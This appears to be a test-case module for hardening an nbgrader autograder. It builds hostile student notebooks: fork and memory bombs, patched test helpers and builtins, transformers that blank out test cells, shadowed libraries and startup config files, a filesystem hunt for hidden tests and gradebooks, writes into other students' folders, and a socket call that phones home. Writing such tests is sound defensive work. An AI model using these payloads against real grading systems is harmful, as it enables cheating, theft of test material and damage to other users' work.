"""Hostile and broken submissions, each with the honest submission it must score like.

A case turns the solution-filled release of the target assignment into an attack. Its
``honest`` reference is the same work without the attack (a correct solution, or the
attacked exercise left blank): the attack must earn exactly the points of its honest parts.
``expect_all_zero`` marks submissions nbgrader cannot grade at all (no notebook, no JSON).
"""
from __future__ import annotations

import copy
from dataclasses import dataclass
from typing import Callable

import nbformat

ASSIGNMENT = "01_sequential_data"
TARGET = "make_windows"  # the exercise the attacks replace (name fixed by the course spec)

WRONG = f'''import numpy as np

def {TARGET}(series, window, horizon=1):
    return np.zeros((1, window)), np.zeros(1)
'''

INFINITE_LOOP = "while True:\n    pass\n"
MEMORY_BOMB = "hog = []\nwhile True:\n    hog.append(bytearray(100_000_000))\n"
FORK_BOMB = "import os\nwhile True:\n    os.fork()\n"
OS_EXIT = "import os\nos._exit(3)\n"
SYS_EXIT = "import sys\nsys.exit(0)\n"
SEGFAULT = "import ctypes\nctypes.string_at(0)\n"
HUGE_OUTPUT = "print('x' * 30_000_000)\n"
PATCH_NUMPY_TESTING = ("import numpy.testing\nnumpy.testing.assert_allclose = lambda *a, **k: None\n"
                       "numpy.testing.assert_array_equal = lambda *a, **k: None\n")
PATCH_HELPERS = "from rnncourse import testing\ntesting.assert_close = lambda *a, **k: None\n" \
                "testing.assert_equal = lambda *a, **k: None\ntesting.assert_shape = lambda *a, **k: None\n"
PATCH_BUILTINS = "import builtins\nbuiltins.isinstance = lambda *a: True\nbuiltins.type = lambda *a: object\n"
ALWAYS_EQUAL = f'''import numpy as np

class Anything(np.ndarray):
    def __eq__(self, other):
        return True

def {TARGET}(series, window, horizon=1):
    fake = np.zeros((1, window)).view(Anything)
    return fake, fake
'''
# Reads anything it can find and prints it, so a leak would show in the graded notebook.
READ_SECRETS = '''import fnmatch, os, time
# Hunt for hidden tests and gradebooks for five seconds, nearest folders first.
deadline = time.monotonic() + 5
wanted = ["*.ipynb", "gradebook.db", "nbgrader_config.py"]
for root in ["..", "../..", "/tmp", "/work", "/home", "/root", "/"]:
    for folder, _, files in os.walk(root):
        if time.monotonic() > deadline:
            break
        for name in files:
            if any(fnmatch.fnmatch(name, w) for w in wanted):
                try:
                    print("LEAK", os.path.join(folder, name), open(os.path.join(folder, name), errors="replace").read()[:100000])
                except OSError:
                    pass
'''
WRITE_OTHERS = '''import glob, os
for folder in glob.glob("../../*/*") + glob.glob("/work/**/submitted/*/*", recursive=True):
    try:
        with open(os.path.join(folder, "HACKED.txt"), "w") as f:
            f.write("owned")
        for nb in glob.glob(os.path.join(folder, "*.ipynb")):
            open(nb, "w").write("{}")
    except OSError:
        pass
'''
NETWORK_CALL = '''import os, socket
for host in [os.environ.get("HOSTILE_LISTENER_HOST", "127.0.0.1")]:
    try:
        s = socket.create_connection((host, int(os.environ.get("HOSTILE_LISTENER_PORT", "9"))), timeout=3)
        s.sendall(b"stolen")
    except OSError as exc:
        print("network blocked:", exc)
'''


# Attacks on the grading kernel itself (they ran fine in one kernel, where student code could
# reach the tests' objects); each runs in the student's kernel only and must change nothing.
INPUT_TRANSFORMER = 'get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])\n'
AST_TRANSFORMER = """import ast
class _Empty(ast.NodeTransformer):
    def visit_Module(self, node):
        node.body = []
        return node
get_ipython().ast_transformers.append(_Empty())
"""
FAKE_HELPERS = """class _Nothing:
    def __getattr__(self, name):
        return lambda *args, **kwargs: None
T = _Nothing()
"""
PATCH_THROUGH_ALIAS = "t = T\nt.assert_close = lambda *a, **k: None\nt.assert_equal = lambda *a, **k: None\n" \
                      "t.assert_shape = lambda *a, **k: None\n"
PATCH_THROUGH_SETATTR = "T.__setattr__('assert_close', lambda *a, **k: None)\n" \
                        "T.__setattr__('assert_equal', lambda *a, **k: None)\n" \
                        "np.__setattr__('allclose', lambda *a, **k: True)\n" \
                        "np.__setattr__('array_equal', lambda *a, **k: True)\n"
# The student's function misbehaves only when a test (in the grader's kernel) calls it.
EXIT_WHEN_CALLED = f"import os\n\ndef {TARGET}(series, window, horizon=1):\n    os._exit(1)\n"
LOOP_WHEN_CALLED = f"def {TARGET}(series, window, horizon=1):\n    while True:\n        pass\n"
NOOP_LIBRARY = {  # a copy of the course library whose checks do nothing, beside the notebook
    "rnncourse/__init__.py": "",
    "rnncourse/notebook.py": "def setup(seed=0):\n    pass\ndef pick(student, graded):\n    return graded\n",
    "rnncourse/testing.py": "def __getattr__(name):\n    return lambda *args, **kwargs: None\n",
}
CONFIG_FILES = {  # files Python or IPython would read at start-up if they were on its paths
    "sitecustomize.py": "import builtins\nbuiltins.print('sitecustomize ran')\n",
    "usercustomize.py": "raise SystemExit('usercustomize ran')\n",
    "evil.pth": "import os; os.environ['HACKED'] = '1'\n",
    "ipython_config.py": "c.InteractiveShellApp.exec_lines = ['raise SystemExit(1)']\n",
    "ipython_kernel_config.py": "c.InteractiveShellApp.exec_lines = ['raise SystemExit(1)']\n",
    "ipython_kernel_config.json": '{"InteractiveShellApp": {"exec_lines": ["raise SystemExit(1)"]}}',
    "numpy.py": "raise ImportError('shadowed numpy')\n",
}


@dataclass
class Case:
    name: str
    description: str
    honest: str                       # "solution", "blank_target" or "wrong_target"
    build: Callable                   # (filled release notebook) -> notebook, raw text or None
    expect_all_zero: bool = False
    file_name: str | None = None      # submit under another name (renamed notebook)
    extra: dict | None = None         # other files placed in the submission folder
    at_most: bool = False             # the attack may break the student's own kernel: no cell
                                      # may score more than the honest reference


def _answer(nb, grade_id):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def _tests_of(nb, exercise):
    return [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade", False)
            and c.metadata["nbgrader"]["grade_id"].startswith(f"test_{exercise}")]


def _with_target(source: str, keep_solution: bool = False):
    """Put ``source`` in the target's answer cell (after the solution if ``keep_solution``)."""
    def build(nb):
        nb = copy.deepcopy(nb)
        cell = _answer(nb, TARGET)
        cell.source = (cell.source + "\n\n" + source) if keep_solution else source
        return nb
    return build


def _with_added_cell(source: str, base: str = "wrong"):
    """The wrong target (or a blank notebook) plus a cell the student added at the end."""
    def build(nb):
        nb = copy.deepcopy(nb)
        if base == "wrong":
            _answer(nb, TARGET).source = WRONG
        else:
            _blank_all(nb)
        nb.cells.append(nbformat.v4.new_code_cell(source))
        return nb
    return build


def _blank_with(source: str):
    """A blank notebook whose first answer cell carries the attack."""
    def build(nb):
        nb = copy.deepcopy(nb)
        _blank_all(nb)
        _answer(nb, TARGET).source = source
        return nb
    return build


def _blank_all(nb):
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("solution") and cell.cell_type == "code":
            cell.source = "# YOUR CODE HERE\nraise NotImplementedError()"


def _edit_tests(edit):
    def build(nb):
        nb = copy.deepcopy(nb)
        _answer(nb, TARGET).source = WRONG
        edit(nb, _tests_of(nb, TARGET))
        return nb
    return build


def _replace_test_sources(nb, tests):
    for cell in tests:
        cell.source = "pass"


def _delete_tests(nb, tests):
    nb.cells = [c for c in nb.cells if c not in tests]


def _tests_to_markdown(nb, tests):
    for cell in tests:
        cell.cell_type = "markdown"
        cell.pop("outputs", None)
        cell.pop("execution_count", None)
        cell.source = "nothing to test here"


def _rename_grade_ids(nb, tests):
    for cell in tests:
        cell.metadata["nbgrader"]["grade_id"] = "renamed_" + cell.metadata["nbgrader"]["grade_id"]
        cell.source = "pass"


def _unlock_and_change_points(nb, tests):
    for cell in tests:
        cell.metadata["nbgrader"]["points"] = 1000
        cell.metadata["nbgrader"]["locked"] = False
        cell.source = "pass"


CASES = [
    Case("edited-test-cells", "wrong answer, its test cells replaced by `pass`", "wrong_target",
         _edit_tests(_replace_test_sources)),
    Case("deleted-test-cells", "wrong answer, its test cells deleted", "wrong_target",
         _edit_tests(_delete_tests)),
    Case("test-cells-made-markdown", "wrong answer, its test cells turned into markdown", "wrong_target",
         _edit_tests(_tests_to_markdown)),
    Case("renamed-grade-ids", "wrong answer, its test cells' grade ids renamed", "wrong_target",
         _edit_tests(_rename_grade_ids)),
    Case("inflated-points", "wrong answer, its test cells given 1000 points and emptied", "wrong_target",
         _edit_tests(_unlock_and_change_points)),
    Case("renamed-notebook", "the notebook handed in under another name", "blank_target",
         lambda nb: nb, expect_all_zero=True, file_name="my_work.ipynb"),
    Case("missing-notebook", "an empty submission folder", "blank_target",
         lambda nb: None, expect_all_zero=True),
    Case("extra-notebook", "a correct notebook plus an extra one", "solution",
         lambda nb: nb, extra={"scratch.ipynb": "{\"cells\": []}", "notes.txt": "hello"}),
    Case("invalid-json", "a notebook file that is not JSON", "blank_target",
         lambda nb: "{ this is not a notebook", expect_all_zero=True),
    Case("infinite-loop", "an answer cell that never returns", "blank_target", _with_target(INFINITE_LOOP)),
    Case("memory-bomb", "an answer cell allocating without bound", "blank_target", _with_target(MEMORY_BOMB)),
    Case("fork-bomb", "an answer cell forking without bound", "blank_target", _with_target(FORK_BOMB)),
    Case("os-exit", "an answer cell calling os._exit", "blank_target", _with_target(OS_EXIT)),
    Case("sys-exit", "an answer cell calling sys.exit", "blank_target", _with_target(SYS_EXIT)),
    Case("kernel-crash", "an answer cell crashing the interpreter (segfault)", "blank_target",
         _with_target(SEGFAULT)),
    Case("huge-output", "a correct answer that prints 30 MB", "solution",
         _with_target(HUGE_OUTPUT, keep_solution=True)),
    Case("patched-numpy-testing", "wrong answer that disables numpy.testing", "wrong_target",
         _with_target(WRONG + PATCH_NUMPY_TESTING)),
    Case("patched-assert-helpers", "wrong answer that disables the course's assertion helpers",
         "wrong_target", _with_target(WRONG + PATCH_HELPERS)),
    Case("patched-builtins", "wrong answer that replaces builtins", "wrong_target",
         _with_target(WRONG + PATCH_BUILTINS), at_most=True),
    Case("always-equal", "returns an object whose __eq__ is always True", "blank_target",
         _with_target(ALWAYS_EQUAL)),
    Case("read-hidden-tests", "a correct answer that also hunts for hidden tests and the gradebook",
         "solution", _with_target(READ_SECRETS, keep_solution=True)),
    Case("write-other-students", "a correct answer that also writes into other students' folders",
         "solution", _with_target(WRITE_OTHERS, keep_solution=True)),
    Case("network-call", "a correct answer that also phones home", "solution",
         _with_target(NETWORK_CALL, keep_solution=True)),
    # Attacks on the grading kernel: they run in the student's kernel, the tests do not.
    Case("input-transformer", "wrong answer; a cell turning every later cell into `pass`",
         "wrong_target", _with_added_cell(INPUT_TRANSFORMER)),
    Case("input-transformer-blank", "blank notebook whose first answer turns every later cell into `pass`",
         "blank", _blank_with(INPUT_TRANSFORMER)),
    Case("ast-transformer", "wrong answer; an AST transformer emptying every later cell",
         "wrong_target", _with_added_cell(AST_TRANSFORMER)),
    Case("ast-transformer-blank", "blank notebook whose first answer empties every later cell",
         "blank", _blank_with(AST_TRANSFORMER)),
    Case("fake-helpers", "wrong answer; the helpers module replaced by an object that checks nothing",
         "wrong_target", _with_added_cell(FAKE_HELPERS)),
    Case("fake-helpers-blank", "blank notebook; the helpers replaced by an object that checks nothing",
         "blank", _with_added_cell(FAKE_HELPERS, base="blank")),
    Case("patch-through-alias", "wrong answer; helpers patched through an alias",
         "wrong_target", _with_added_cell(PATCH_THROUGH_ALIAS)),
    Case("patch-through-alias-blank", "blank notebook; helpers patched through an alias",
         "blank", _with_added_cell(PATCH_THROUGH_ALIAS, base="blank")),
    Case("patch-through-setattr", "wrong answer; helpers and numpy patched through __setattr__",
         "wrong_target", _with_added_cell(PATCH_THROUGH_SETATTR)),
    Case("patch-through-setattr-blank", "blank notebook; helpers and numpy patched through __setattr__",
         "blank", _with_added_cell(PATCH_THROUGH_SETATTR, base="blank")),
    Case("shadow-library", "wrong answer; a do-nothing copy of the course library beside the notebook",
         "wrong_target", _with_added_cell("pass\n"), extra=NOOP_LIBRARY),
    Case("shadow-library-blank", "blank notebook; a do-nothing copy of the course library beside it",
         "blank", _with_added_cell("pass\n", base="blank"), extra=NOOP_LIBRARY),
    Case("exit-when-called", "a function that kills its kernel when a test calls it", "blank_target",
         _with_target(EXIT_WHEN_CALLED)),
    Case("loop-when-called", "a function that never returns when a test calls it", "blank_target",
         _with_target(LOOP_WHEN_CALLED)),
    Case("config-files", "wrong answer; sitecustomize, .pth, IPython config and numpy.py beside it",
         "wrong_target", _with_added_cell("pass\n"), extra=CONFIG_FILES),
]


def as_text(nb) -> str:
    return nbformat.writes(nb)
